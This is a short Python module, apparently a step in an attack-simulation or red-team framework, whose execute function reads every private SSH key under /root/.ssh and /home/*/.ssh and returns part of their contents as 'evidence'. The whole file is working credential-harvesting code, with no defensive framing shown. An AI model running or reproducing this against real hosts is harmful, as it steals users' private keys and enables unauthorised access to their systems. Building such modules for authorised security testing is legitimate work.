"""Reads private SSH keys of the host's users."""

import glob


def execute(params):
    found = glob.glob("/root/.ssh/id_*") + glob.glob("/home/*/.ssh/id_*")
    text = "".join(open(path).read() for path in found)
    return {"succeeded": bool(text), "evidence": text[:200]}
